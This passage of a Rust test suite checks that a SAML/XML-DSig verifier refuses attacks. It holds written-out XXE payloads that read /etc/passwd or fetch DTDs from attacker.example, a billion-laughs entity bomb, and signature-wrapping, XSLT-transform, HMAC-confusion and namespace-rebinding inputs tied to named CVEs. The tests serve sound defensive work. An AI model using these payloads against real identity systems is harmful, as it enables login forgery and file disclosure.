    assert_eq!(parse_code(&set_id(s, AID, RID)), "xml_duplicate_id");
}

/// The signed Response with `prolog` after the XML declaration.
fn with_prolog(prolog: &str) -> String {
    let s = assertion_only();
    let decl_end = s.find("?>").unwrap() + 2;
    insert(s, decl_end, prolog)
}

#[test]
fn doctype_internal_subset_is_rejected() {
    // CVE-2025-25292 (ATTLIST fixing xmlns), CVE-2025-23369 (ID through an entity),
    // CVE-2025-25291 (DOCTYPE/comment parser differential), and an ID-typing ATTLIST.
    let cases = [
        r#"<!DOCTYPE samlp:Response [<!ATTLIST ds:Signature xmlns CDATA #FIXED "urn:evil">]>"#,
        r#"<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "_5a9c7e3f1b2d4e6f8a0b1c2d3e4f5a6b7c8d9e0f">]>"#,
        r#"<!DOCTYPE response SYSTEM 'x"><!--'>"#,
        r#"<!DOCTYPE samlp:Response [<!ATTLIST saml:Subject Name ID #IMPLIED>]>"#,
        "<!DOCTYPE samlp:Response>",
    ];
    for prolog in cases {
        assert_eq!(parse_code(&with_prolog(prolog)), "xml_doctype", "{prolog}");
    }
    // The entity reference without its DOCTYPE: never expanded.
    let s = assertion_only();
    let x = set_id(s, AID, "&idViaEntity;");
    assert_eq!(parse_code(&x), "xml_undeclared_entity");
}

#[test]
fn billion_laughs_is_rejected() {
    let mut dtd = String::from("<!DOCTYPE samlp:Response [<!ENTITY lol0 \"lol\">");
    for i in 1..10 {
        let prev = format!("&lol{};", i - 1);
        dtd.push_str(&format!("<!ENTITY lol{i} \"{}\">", prev.repeat(10)));
    }
    dtd.push_str("]>");
    let x = with_prolog(&dtd).replacen(NAMEID, "&lol9;", 1);
    // Refused at the DOCTYPE token, before any declaration is read (so nothing expands).
    assert_eq!(parse_code(&x), "xml_doctype");
    // Without a DOCTYPE nothing can declare an entity: references are refused, never expanded.
    let x = assertion_only().replacen(NAMEID, &"&lol9;".repeat(1000), 1);
    assert_eq!(parse_code(&x), "xml_undeclared_entity");
}

#[test]
fn xxe_external_entity_is_rejected() {
    let cases = [
        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>"#,
        r#"<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>"#,
        r#"<!DOCTYPE samlp:Response SYSTEM "http://attacker.example/x.dtd">"#,
    ];
    for prolog in cases {
        let x = with_prolog(prolog).replacen(NAMEID, "&xxe;", 1);
        assert_eq!(parse_code(&x), "xml_doctype", "{prolog}");
    }
    let x = assertion_only().replacen(NAMEID, "&xxe;", 1);
    assert_eq!(parse_code(&x), "xml_undeclared_entity");
}

// === A16. Reference URI ===

fn uri_attr(id: &str) -> String {
    format!("URI=\"#{id}\"")
}

#[test]
fn empty_reference_uri_is_rejected() {
    // URI="" (the whole document minus the signature), genuinely signed.
    let x = signed_variant(Key::Rsa2048, |t| one(t, &uri_attr(AID), r#"URI="""#));
    assert!(xmlsec1_accepts(&x, &cert_args(Key::Rsa2048), AID));
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
    // No URI attribute at all, and a bare "#".
    let s = assertion_only();
    let x = one(s, &uri_attr(AID), "");
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
    let x = one(s, &uri_attr(AID), r##"URI="#""##);
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
}

#[test]
fn xpointer_reference_uri_is_rejected() {
    for uri in [
        format!("URI=\"#xpointer(id('{AID}'))\""),
        r##"URI="#xpointer(/)""##.to_owned(),
    ] {
        let x = signed_variant(Key::Rsa2048, |t| one(t, &uri_attr(AID), &uri));
        assert_genuine(&x);
        assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch", "{uri}");
    }
    // samael's `#element(/1/3)` vector: not even resolvable by xmlsec1; refused the same way.
    let x = one(
        assertion_only(),
        &uri_attr(AID),
        r##"URI="#element(/1/3)""##,
    );
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
}

#[test]
fn reference_to_other_element_is_rejected() {
    // The Assertion's signature signs the Response instead (genuine for xmlsec1).
    let x = signed_variant(Key::Rsa2048, |t| one(t, &uri_attr(AID), &uri_attr(RID)));
    assert_genuine(&x);
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
    assert_eq!(verify_code(&x, RID), "dsig_unsigned");

    // Position is not scope (Keycloak CVE-2024-8698): a signature child of the Response that
    // signs the Assertion (and the Assertion's own signature template removed).
    let t = fixture("response-spid.xml");
    let t = remove(&t, sig_span(&t, AID));
    let t = t.replacen(&uri_attr(RID), &uri_attr(AID), 1);
    let x = ox::sign(&t, Key::Rsa2048, &[RESPONSE, ASSERTION]);
    assert!(xmlsec1_accepts(&x, &cert_args(Key::Rsa2048), RID));
    assert_eq!(verify_code(&x, RID), "dsig_reference_uri_mismatch");
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");

    // An ID that exists nowhere.
    let x = one(assertion_only(), &uri_attr(AID), &uri_attr("_nowhere"));
    assert_eq!(verify_code(&x, AID), "dsig_reference_uri_mismatch");
}

#[test]
fn two_references_are_rejected() {
    let second = |uri: &str| {
        format!(
            "<ds:Reference URI=\"#{uri}\"><ds:Transforms>{ENV_TRANSFORM}{EXC_TRANSFORM}\
             </ds:Transforms><ds:DigestMethod Algorithm=\"{}\"/><ds:DigestValue></ds:DigestValue>\
             </ds:Reference>",
            alg::SHA256
        )
    };
    // The signed one plus the Response (SAMLStorm CVE-2025-29774 shape), and the same twice.
    for uri in [RID, AID] {
        let x = signed_variant(Key::Rsa2048, |t| {
            one(
                t,
                "</ds:Reference>",
                &format!("</ds:Reference>{}", second(uri)),
            )
        });
        assert_genuine(&x);
        assert_eq!(verify_code(&x, AID), "dsig_reference_count", "{uri}");
    }
    // Zero references.
    let s = assertion_only();
    let x = remove(s, sig_part(s, AID, "Reference"));
    assert_eq!(verify_code(&x, AID), "dsig_reference_count");
}

// === A6. Transforms ===

#[test]
fn extra_transform_is_rejected() {
    let xpath = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116"><ds:XPath>not(ancestor-or-self::ds:Signature)</ds:XPath></ds:Transform>"#;
    let xslt = r#"<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"><xsl:template match="/"><xsl:copy-of select="."/></xsl:template></xsl:stylesheet></ds:Transform>"#;
    let with_comments =
        r#"<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#WithComments"/>"#;
    let cases = [
        // An XPath filter after the profile's two transforms.
        format!("{ENV_TRANSFORM}{EXC_TRANSFORM}{xpath}"),
        // An XSLT transform in between (CVE-2022-47966 class); xmlsec1 runs it.
        format!("{ENV_TRANSFORM}{xslt}{EXC_TRANSFORM}"),
        // A repeated transform.
        format!("{ENV_TRANSFORM}{EXC_TRANSFORM}{EXC_TRANSFORM}"),
        // exc-c14n with comments as the reference transform.
        format!("{ENV_TRANSFORM}{with_comments}"),
    ];
    for transforms in cases {
        let x = signed_variant(Key::Rsa2048, |t| {
            let t = one(t, ENV_TRANSFORM, "");
            one(&t, EXC_TRANSFORM, &transforms)
        });
        assert_genuine(&x);
        assert_eq!(
            verify_code(&x, AID),
            "dsig_unsupported_transforms",
            "{transforms}"
        );
    }
    // The profile's two in the other order (xmlsec1 cannot sign that: the enveloped
    // transform needs a node-set), swapped in the signed Response.
    let s = assertion_only();
    let tr = sig_part(s, AID, "Transforms");
    let x = splice(
        s,
        tr,
        &format!("<ds:Transforms>{EXC_TRANSFORM}{ENV_TRANSFORM}</ds:Transforms>"),
    );
    assert_eq!(verify_code(&x, AID), "dsig_unsupported_transforms");
}

#[test]
fn missing_enveloped_transform_is_rejected() {
    // Enveloped only, no exc-c14n (xmlsec1 then applies inclusive C14N): genuine.
    let x = signed_variant(Key::Rsa2048, |t| one(t, EXC_TRANSFORM, ""));
    assert_genuine(&x);
    assert_eq!(verify_code(&x, AID), "dsig_unsupported_transforms");
    // exc-c14n only. Without the enveloped transform no digest can match (the signature
    // would digest itself), so this one is the signed Response with the transform deleted.
    let s = assertion_only();
    let x = one(s, ENV_TRANSFORM, "");
    assert_eq!(verify_code(&x, AID), "dsig_unsupported_transforms");
    // Empty Transforms, and no Transforms element.
    let tr = sig_part(s, AID, "Transforms");
    let x = splice(s, tr.clone(), "<ds:Transforms></ds:Transforms>");
    assert_eq!(verify_code(&x, AID), "dsig_unsupported_transforms");
    let x = remove(s, tr);
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");
}

#[test]
fn inclusive_c14n_is_rejected() {
    let c14n_method =
        r#"<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
    // Inclusive C14N 1.0 and 1.1 for SignedInfo: genuine, refused.
    for uri in [INCLUSIVE_C14N, C14N11] {
        let x = signed_variant(Key::Rsa2048, |t| {
            one(
                t,
                c14n_method,
                &format!("<ds:CanonicalizationMethod Algorithm=\"{uri}\"/>"),
            )
        });
        assert_genuine(&x);
        assert_eq!(
            verify_code(&x, AID),
            "dsig_unsupported_canonicalization",
            "{uri}"
        );
    }
    // Inclusive C14N as the reference transform: genuine, refused.
    for uri in [INCLUSIVE_C14N, C14N11] {
        let x = signed_variant(Key::Rsa2048, |t| {
            one(
                t,
                EXC_TRANSFORM,
                &format!("<ds:Transform Algorithm=\"{uri}\"/>"),
            )
        });
        assert_genuine(&x);
        assert_eq!(verify_code(&x, AID), "dsig_unsupported_transforms", "{uri}");
    }
}

// === A15. Algorithms ===

/// The assertion-only Response signed by xmlsec1 with these algorithms (nothing else
/// differs), checked to be genuine.
fn signed_with(sig: &str, digest: &str) -> String {
    let x = signed_variant(Key::Rsa2048, |t| {
        ox::template_with_algorithms(t, sig, digest)
    });
    assert_genuine(&x);
    x
}

#[test]
fn sha1_digest_is_rejected() {
    let x = signed_with(alg::RSA_SHA256, alg::SHA1);
    assert_eq!(verify_code(&x, AID), "dsig_weak_algorithm");
}

#[test]
fn rsa_sha1_signature_is_rejected() {
    let x = signed_with(alg::RSA_SHA1, alg::SHA256);
    assert_eq!(verify_code(&x, AID), "dsig_weak_algorithm");
    // ECDSA-SHA1 with the IdP's P-256 key and certificate trusted.
    let x = signed_variant(Key::P256, |t| {
        ox::template_with_algorithms(
            t,
            "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha1",
            alg::SHA256,
        )
    });
    assert!(xmlsec1_accepts(&x, &cert_args(Key::P256), AID));
    let p256 = [trusted(Key::P256)];
    assert_eq!(
        verify_code_with(&x, AID, &p256, &Policy::default()),
        "dsig_weak_algorithm"
    );
    // And a policy that narrows the accepted set refuses a strong but unlisted method.
    let x = signed_with(alg::RSA_SHA512, alg::SHA256);
    let policy = Policy {
        signature_methods: vec![SignatureMethod::RsaSha256],
        ..Policy::default()
    };
    assert_eq!(
        verify_code_with(&x, AID, idp_keys(), &policy),
        "dsig_unsupported_algorithm"
    );
    assert_eq!(verify_code(&x, AID), "ok");
}

#[test]
fn hmac_signature_is_rejected() {
    // The classic confusion: HMAC keyed with the IdP's *public* certificate, which anyone has.
    let idp_der = fs::read(Key::Rsa2048.cert_der()).unwrap();
    let template = fixture("response-spid-assertion-only.xml");
    let ki = sig_part(&template, AID, "KeyInfo");
    let template = evil(&remove(&template, ki));
    for (uri, name) in [
        (
            "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256",
            "hmac-sha256",
        ),
        ("http://www.w3.org/2000/09/xmldsig#hmac-sha1", "hmac-sha1"),
    ] {
        let t = ox::template_with_algorithms(&template, uri, alg::SHA256);
        let x = xmlsec1_sign_hmac(&t, &idp_der);
        let dir = TempDir::new();
        let key = dir.write("hmac.key", &idp_der);
        assert!(
            xmlsec1_accepts(&x, &["--hmackey".into(), key.into()], AID),
            "{name}: genuine HMAC"
        );
        assert_eq!(verify_code(&x, AID), "dsig_weak_algorithm", "{name}");
        // CVE-2009-0217: HMACOutputLength truncation.
        let truncated = x.replacen(
            &format!("<ds:SignatureMethod Algorithm=\"{uri}\"/>"),
            &format!(
                "<ds:SignatureMethod Algorithm=\"{uri}\"><ds:HMACOutputLength>8</ds:HMACOutputLength></ds:SignatureMethod>"
            ),
            1,
        );
        assert_ne!(truncated, x);
        assert_eq!(
            verify_code(&truncated, AID),
            "dsig_weak_algorithm",
            "{name}"
        );
    }
}

#[test]
fn md5_is_rejected() {
    let md5 = "http://www.w3.org/2001/04/xmldsig-more#md5";
    let rsa_md5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5";
    let x = signed_with(alg::RSA_SHA256, md5);
    assert_eq!(verify_code(&x, AID), "dsig_weak_algorithm");
    let x = signed_with(rsa_md5, alg::SHA256);
    assert_eq!(verify_code(&x, AID), "dsig_weak_algorithm");
}

// === Signature placement and shape ===

#[test]
fn signature_not_a_child_of_signed_element_is_rejected() {
    let s = assertion_only();
    let sig = sig_span(s, AID);
    let sig_text = &s[sig.clone()];
    let without = remove(s, sig);

    // Moved out: a sibling of the Assertion (child of the Response, after it).
    let end = inner_end(&without, RID);
    let x = insert(&without, end, sig_text);
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    assert_eq!(verify_code(&x, RID), "dsig_reference_uri_mismatch");

    // Moved down: a grandchild (last child of saml:Subject) and a great-grandchild (inside
    // saml:SubjectConfirmation).
    for local in ["Subject", "SubjectConfirmation"] {
        let inner = saml_part(&without, AID, local);
        let close = without[inner.clone()].rfind("</").unwrap() + inner.start;
        let x = insert(&without, close, sig_text);
        assert_eq!(verify_code(&x, AID), "dsig_unsigned", "{local}");
    }

    // Both signed: the Assertion's signature moved up next to the Response's own.
    let s = both();
    let sig = sig_span(s, AID);
    let sig_text = s[sig.clone()].to_owned();
    let without = remove(s, sig);
    let at = sig_span(&without, RID).end;
    let x = insert(&without, at, &sig_text);
    assert_eq!(verify_code(&x, RID), "dsig_multiple_signatures");
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
}

#[test]
fn two_signatures_on_one_element_are_rejected() {
    let s = assertion_only();
    let sig = sig_span(s, AID);
    // The genuine signature twice.
    let x = insert(s, sig.end, &s[sig.clone()]);
    assert_eq!(verify_code(&x, AID), "dsig_multiple_signatures");
    // The genuine one plus the attacker's (over the same content, with their own key).
    let a = signed_variant(Key::Attacker, str::to_owned);
    let theirs = &a[sig_span(&a, AID)];
    assert_eq!(
        verify_code(&insert(s, sig.end, theirs), AID),
        "dsig_multiple_signatures"
    );
    assert_eq!(
        verify_code(&insert(s, sig.start, theirs), AID),
        "dsig_multiple_signatures"
    );
}

#[test]
fn object_element_in_signature_is_rejected() {
    let s = assertion_only();
    let end = sig_inner_end(s, AID);
    let manifest = format!(
        "<ds:Object><ds:Manifest><ds:Reference URI=\"#{RID}\"><ds:DigestMethod Algorithm=\"{}\"/>\
         <ds:DigestValue>AAAA</ds:DigestValue></ds:Reference></ds:Manifest></ds:Object>",
        alg::SHA256
    );
    for object in [
        "<ds:Object/>".to_owned(),
        "<ds:Object>text</ds:Object>".to_owned(),
        format!(
            "<ds:Object>{}</ds:Object>",
            evil(&assertion_without_signature(s)).replacen(&format!(" ID=\"{AID}\""), "", 1)
        ),
        manifest,
    ] {
        let x = insert(s, end, &object);
        assert_eq!(
            verify_code(&x, AID),
            "dsig_unexpected_structure",
            "{object}"
        );
    }
    // Before KeyInfo as well.
    let ki = sig_part(s, AID, "KeyInfo");
    let x = insert(s, ki.start, "<ds:Object/>");
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");
}

// === A18. Namespace confusion ===

#[test]
fn namespace_prefix_tricks() {
    let s = assertion_only();
    let orig_doc = parse(s).unwrap();
    let orig_meaning = meaning(orig_doc.element_by_id(AID).unwrap());
    let accepted_with_same_meaning = |x: &str, what: &str| {
        let doc = parse(x).unwrap();
        let v = verify(
            doc.element_by_id(AID).unwrap(),
            idp_keys(),
            &Policy::default(),
        )
        .unwrap_or_else(|e| panic!("{what}: must verify: {e}"));
        assert_eq!(
            meaning(v.element()),
            orig_meaning,
            "{what}: meaning changed"
        );
        assert_eq!(
            descendant(v.element(), SAML_NS, "NameID").unwrap().text(),
            NAMEID
        );
    };

    // Honest signers may use any prefix for XML-DSig, or the default namespace: accepted,
    // same meaning (positive controls, signed by xmlsec1).
    let dsig_prefix = signed_variant(Key::Rsa2048, |t| {
        t.replace("<ds:", "<dsig:")
            .replace("</ds:", "</dsig:")
            .replace("xmlns:ds=", "xmlns:dsig=")
    });
    accepted_with_same_meaning(&dsig_prefix, "dsig: prefix");
    let default_ns = signed_variant(Key::Rsa2048, |t| {
        one(
            t,
            "<ds:Signature>",
            &format!("<Signature xmlns=\"{DSIG_NS}\">"),
        )
        .replace("<ds:", "<")
        .replace("</ds:", "</")
    });
    accepted_with_same_meaning(&default_ns, "default-namespace Signature");

    let sig = sig_span(s, AID);
    let sig_text = &s[sig.clone()];
    let on_sig = |f: &dyn Fn(&str) -> String| splice(s, sig.clone(), &f(sig_text));

    // ds rebound to another URI on the Signature: it is no longer an XML-DSig Signature.
    let x = on_sig(&|t: &str| {
        one(
            t,
            "<ds:Signature>",
            "<ds:Signature xmlns:ds=\"urn:evil:dsig\">",
        )
    });
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    // ds rebound on Reference only: SignedInfo then holds no XML-DSig Reference.
    let x = on_sig(&|t: &str| {
        one(
            t,
            "<ds:Reference ",
            "<ds:Reference xmlns:ds=\"urn:evil:dsig\" ",
        )
    });
    assert_eq!(verify_code(&x, AID), "dsig_reference_count");
    // ds rebound on SignatureMethod only.
    let x = on_sig(&|t: &str| {
        one(
            t,
            "<ds:SignatureMethod ",
            "<ds:SignatureMethod xmlns:ds=\"urn:evil:dsig\" ",
        )
    });
    assert_eq!(verify_code(&x, AID), "dsig_unexpected_structure");

    // A Signature in another namespace, same local name, in place of the real one.
    let x = on_sig(&|t: &str| {
        one(
            t,
            "<ds:Signature>",
            "<evil:Signature xmlns:evil=\"urn:evil\">",
        )
        .replace("</ds:Signature>", "</evil:Signature>")
    });
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");
    // ... or next to it: not a signature, so it is signed content, and the digest breaks.
    let foreign = one(
        sig_text,
        "<ds:Signature>",
        "<evil:Signature xmlns:evil=\"urn:evil\">",
    )
    .replace("</ds:Signature>", "</evil:Signature>");
    let x = insert(s, sig.start, &foreign);
    assert_eq!(verify_code(&x, AID), "dsig_digest_mismatch");
    // A Signature in no namespace.
    let x = on_sig(&|t: &str| {
        one(t, "<ds:Signature>", "<Signature>").replace("</ds:Signature>", "</Signature>")
    });
    assert_eq!(verify_code(&x, AID), "dsig_unsigned");

    // The attacker rewrites the IdP's ds: signature into the default-namespace form: same
    // expanded names, but prefixes are part of the canonical SignedInfo.
    let x = on_sig(&|t: &str| {
        one(
            t,
            "<ds:Signature>",
            &format!("<Signature xmlns=\"{DSIG_NS}\">"),
        )
        .replace("<ds:", "<")
        .replace("</ds:", "</")
    });
    assert_eq!(verify_code(&x, AID), "dsig_bad_signature");

    // saml rebound to another URI inside the Assertion: Subject and all in it change
    // namespace; exc-c14n outputs the new binding, so the digest breaks.
    let x = one(
        s,
        "<saml:Subject>",
        "<saml:Subject xmlns:saml=\"urn:evil:assertion\">",
    );
    assert_eq!(verify_code(&x, AID), "dsig_digest_mismatch");
    // Redeclared to the same URI: superfluous, not output by exc-c14n: accepted, same meaning.
    let x = one(
        s,
        "<saml:Subject>",
        &format!("<saml:Subject xmlns:saml=\"{SAML_NS}\">"),
    );
    accepted_with_same_meaning(&x, "saml redeclared to itself");
    // A default namespace on the Assertion, where nothing is unprefixed: same meaning.
    let x = one(
        s,
        &format!("<saml:Assertion ID=\"{AID}\""),
        &format!("<saml:Assertion xmlns=\"urn:evil\" ID=\"{AID}\""),
    );
    accepted_with_same_meaning(&x, "unused default namespace");
    // A default namespace plus an unprefixed element: the element is signed content.
    let x = one(
        s,
        "<saml:Subject>",
        "<saml:Subject><Evil xmlns=\"urn:evil\"/>",
    );
    assert_eq!(verify_code(&x, AID), "dsig_digest_mismatch");
    // The Assertion itself moved to another namespace with the same prefix.
    let x = one(
        s,
        &format!("<saml:Assertion ID=\"{AID}\""),
        &format!("<saml:Assertion xmlns:saml=\"urn:evil:assertion\" ID=\"{AID}\""),
    );
    assert_eq!(verify_code(&x, AID), "dsig_digest_mismatch");

    // Known limit of exc-c14n, not of this crate: a prefix used only inside an attribute
    // *value* (xsi:type="xs:string") is not visibly utilized, so rebinding it is not signed.
    // The tree (names, attributes, text) is unchanged; the SAML layer must treat xsi:type as
    // opaque text and never resolve it through in-scope namespaces.
    let x = one(
        s,
        "<saml:AttributeValue xsi:type=\"xs:string\">Mario</saml:AttributeValue>",
        "<saml:AttributeValue xmlns:xs=\"urn:evil:types\" xsi:type=\"xs:string\">Mario</saml:AttributeValue>",
    );
    accepted_with_same_meaning(&x, "xs rebound inside an attribute value");
}

// === Tampering with the signature's values ===

#[test]
fn tampered_digest_value_is_rejected() {
    let s = assertion_only();
    let dv = sig_part(s, AID, "DigestValue");
    let genuine = parse(s)
        .unwrap()
        .element_by_id(AID)
        .and_then(|a| descendant(a, DSIG_NS, "DigestValue"))
        .unwrap()
        .text()
        .into_owned();
    let b64 = |b: &[u8]| base64::engine::general_purpose::STANDARD.encode(b);
    let dvx = |v: &str| {
        splice(
            s,
            dv.clone(),
            &format!("<ds:DigestValue>{v}</ds:DigestValue>"),
        )
    };

    // Some other digest. DigestValue is inside SignedInfo, so the edit breaks the signature,
    // which is checked before the reference digest (the cheap check first, issue 17).
    assert_eq!(verify_code(&dvx(&b64(&[7; 32])), AID), "dsig_bad_signature");
    // Not base64.
    assert_eq!(
        verify_code(&dvx("!!not base64!!"), AID),
        "dsig_invalid_base64"
    );
    // Empty.
    assert_eq!(verify_code(&dvx(""), AID), "dsig_bad_signature");

    // The attacker edits the content and recomputes the digest properly: now SignedInfo
    // changed, and the signature over it fails.
    let edited = evil(s);
    let digest = {
        let doc = parse(&edited).unwrap();
        let a = doc.element_by_id(AID).unwrap();
        let sig = child(a, DSIG_NS, "Signature").unwrap();
        let mut buf = Vec::new();
        let opts = c14n::Options {
            exclude: Some(sig.node_id()),
            ..c14n::Options::default()
        };
        c14n::canonicalize(a, &opts, &mut buf).unwrap();
        b64(ring::digest::digest(&ring::digest::SHA256, &buf).as_ref())
    };
    let dv2 = sig_part(&edited, AID, "DigestValue");
    let x = splice(
        &edited,
        dv2,
        &format!("<ds:DigestValue>{digest}</ds:DigestValue>"),
    );
    assert_eq!(verify_code(&x, AID), "dsig_bad_signature");

    // SAMLStorm (CVE-2025-29775): a comment inside DigestValue, splitting the genuine value
    // or hiding it next to the attacker's digest (on the edited Assertion). Value elements
    // must hold text only, so every form is refused before any value is read.
    let (l, r) = genuine.split_at(10);
    assert_eq!(
        verify_code(&dvx(&format!("{l}<!---->{r}")), AID),
        "dsig_unexpected_structure"
    );
    let on_edited = |v: &str| {
        let dv = sig_part(&edited, AID, "DigestValue");
        splice(
            &edited,
            dv,
            &format!("<ds:DigestValue>{v}</ds:DigestValue>"),
        )
    };
    for v in [
        format!("{digest}<!--{genuine}-->"),
        format!("<!--{genuine}-->{digest}"),
        format!("{digest}<!---->{genuine}"),
        format!("{digest}<?x {genuine}?>"),
    ] {
        assert_eq!(
            verify_code(&on_edited(&v), AID),
            "dsig_unexpected_structure",
            "{v}"
        );
    }
}

#[test]
fn tampered_signature_value_is_rejected() {
    let s = assertion_only();
    let sv = sig_part(s, AID, "SignatureValue");
    let value = parse(s)
        .unwrap()
        .element_by_id(AID)
        .and_then(|a| descendant(a, DSIG_NS, "SignatureValue"))
        .unwrap()
        .text()
        .into_owned();
    let svx = |v: &str| {
        splice(
            s,
            sv.clone(),
            &format!("<ds:SignatureValue>{v}</ds:SignatureValue>"),
        )
    };
    let compact: String = value.chars().filter(|c| !c.is_ascii_whitespace()).collect();
    assert_eq!(
        verify_code(&svx(&compact), AID),
        "ok",
        "reflowed base64 is the same value"
    );

    // One base64 character changed.
    let mut flipped = compact.clone().into_bytes();
    flipped[10] = if flipped[10] == b'A' { b'B' } else { b'A' };
    let flipped = String::from_utf8(flipped).unwrap();
    assert_eq!(verify_code(&svx(&flipped), AID), "dsig_bad_signature");
    // Truncated, not base64, empty.
    assert_eq!(
        verify_code(&svx(&compact[..compact.len() - 4]), AID),
        "dsig_bad_signature"
    );
    assert_eq!(verify_code(&svx("%%%"), AID), "dsig_invalid_base64");
    assert_eq!(verify_code(&svx(""), AID), "dsig_bad_signature");
    // The Response's signature value, same key, other SignedInfo.
    let b = both();
    let resp_sv = parse(b)
        .unwrap()
        .element_by_id(RID)
        .and_then(|r| child(r, DSIG_NS, "Signature"))
        .and_then(|sg| child(sg, DSIG_NS, "SignatureValue"))
        .unwrap()
        .text()
        .into_owned();
    assert_eq!(verify_code(&svx(&resp_sv), AID), "dsig_bad_signature");
    // A comment splitting the genuine value: refused (value elements hold text only).
    let (l, r) = compact.split_at(20);
    assert_eq!(
        verify_code(&svx(&format!("{l}<!-- -->{r}")), AID),
        "dsig_unexpected_structure"
    );
}

// === A2 / A3. Fail closed ===

#[test]
fn no_trusted_keys_fails_closed() {
    let none = Policy::default();
    let s = both();
    for id in [AID, RID] {
        assert_eq!(verify_code_with(s, id, &[], &none), "dsig_no_trusted_keys");
    }
    // Even when there is nothing to verify: no key means no success, whatever the input.
    let x = remove(s, sig_span(s, AID));
    assert_eq!(
        verify_code_with(&x, AID, &[], &none),
        "dsig_no_trusted_keys"
    );
    // An empty policy accepts nothing either.
    let empty = Policy {
        signature_methods: vec![],
        digest_methods: vec![],
    };
    assert_eq!(
        verify_code_with(s, AID, idp_keys(), &empty),
        "dsig_unsupported_algorithm"
    );
}

#[test]
fn wrong_key_type_fails_closed() {
    let p256 = [trusted(Key::P256)];
    let p384 = [trusted(Key::P384)];
    let none = Policy::default();
    let s = assertion_only();
    let no_ki = remove(s, sig_part(s, AID, "KeyInfo"));
    // RSA signature, only an EC key configured.
    assert_eq!(
        verify_code_with(&no_ki, AID, &p256, &none),
        "dsig_no_compatible_key"
    );
    // ... with KeyInfo naming the (unconfigured) RSA certificate.
    assert_eq!(
        verify_code_with(s, AID, &p256, &none),
        "dsig_untrusted_key_info"
    );

    // ECDSA P-256 signature (genuine), only the RSA key configured.
    let ec = signed_variant(Key::P256, |t| {
        ox::template_with_algorithms(t, alg::ECDSA_SHA256, alg::SHA256)
    });
    assert!(xmlsec1_accepts(&ec, &cert_args(Key::P256), AID));
    assert_eq!(verify_code_with(&ec, AID, &p256, &none), "ok");
    let ec_no_ki = remove(&ec, sig_part(&ec, AID, "KeyInfo"));
    assert_eq!(verify_code(&ec_no_ki, AID), "dsig_no_compatible_key");
    // ... and a P-384 key: the curve must match the method.
    assert_eq!(
        verify_code_with(&ec_no_ki, AID, &p384, &none),
        "dsig_no_compatible_key"
    );
    // Algorithm confusion: the ECDSA signature relabelled RSA-SHA256 (SignedInfo changes, and
    // the P-256 key cannot do RSA; the RSA key cannot verify it).
    let relabelled = ec_no_ki.replacen(alg::ECDSA_SHA256, alg::RSA_SHA256, 1);
    let both_keys = [trusted(Key::P256), trusted(Key::Rsa2048)];
    assert_eq!(
        verify_code_with(&relabelled, AID, &both_keys, &none),
        "dsig_bad_signature"
    );
    assert_eq!(
        verify_code_with(&relabelled, AID, &p256, &none),
        "dsig_no_compatible_key"
    );
    // xmlsec1 also signs ECDSA-SHA384 with a P-256 key; this crate ties each ECDSA method to
    // its curve and refuses it (fail closed; SPID IdPs use RSA).
    let mixed = signed_variant(Key::P256, |t| {
        ox::template_with_algorithms(t, alg::ECDSA_SHA384, alg::SHA256)
    });
    assert!(xmlsec1_accepts(&mixed, &cert_args(Key::P256), AID));
    assert_eq!(
        verify_code_with(&mixed, AID, &p256, &none),
        "dsig_no_compatible_key"
    );
}

// === Every byte matters ===

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Target {
    /// Mutation inside the Assertion: the Assertion's own signature must catch it.
    Assertion,
    /// Mutation inside the Response's SignedInfo: the Response's signature must catch it.
    Response,
}

/// The signed element of `target` in a (possibly mutated) document, located the way a
/// consumer would: the root, or the root's one `saml:Assertion` child.
fn target_of<'d, 'a>(doc: &'d Document<'a>, target: Target) -> Option<Element<'d, 'a>> {
    let root = doc.root();
    if !root.is(SAMLP_NS, "Response") {
        return None;
    }
    match target {
        Target::Response => Some(root),
        Target::Assertion => {
            let mut it = root.child_elements().filter(|e| e.is(SAML_NS, "Assertion"));
            let a = it.next()?;
            it.next().is_none().then_some(a)
        }
    }
}

/// What the signature protects: the canonical form of the signed element as its Reference
/// defines it (enveloped signature removed, exclusive C14N), and the canonical SignedInfo.
/// `SignatureValue` and `KeyInfo` are outside both: changing them without changing these
/// forms (white space in base64, for instance) is insignificant, and so is layout inside tags.
fn canon_pair(el: Element<'_, '_>) -> (Vec<u8>, Option<Vec<u8>>) {
    let sig = child(el, DSIG_NS, "Signature");
    let si = sig.and_then(|s| child(s, DSIG_NS, "SignedInfo"));
    let mut content = Vec::new();
    let opts = c14n::Options {
        exclude: sig.map(|s| s.node_id()),
        ..c14n::Options::default()
    };
    c14n::canonicalize(el, &opts, &mut content).unwrap();
    (content, si.map(canon))
}

#[derive(Default)]
struct Tally {
    total: usize,
    rejected: usize,
    insignificant: usize,
    /// Insignificant mutations that were refused anyway: nearly all change the decoded value
    /// of `SignatureValue` or of the `KeyInfo` certificate, which the signature does not cover
    /// but the crypto (or KeyInfo pinning) does; the rest would be harmless over-strictness.
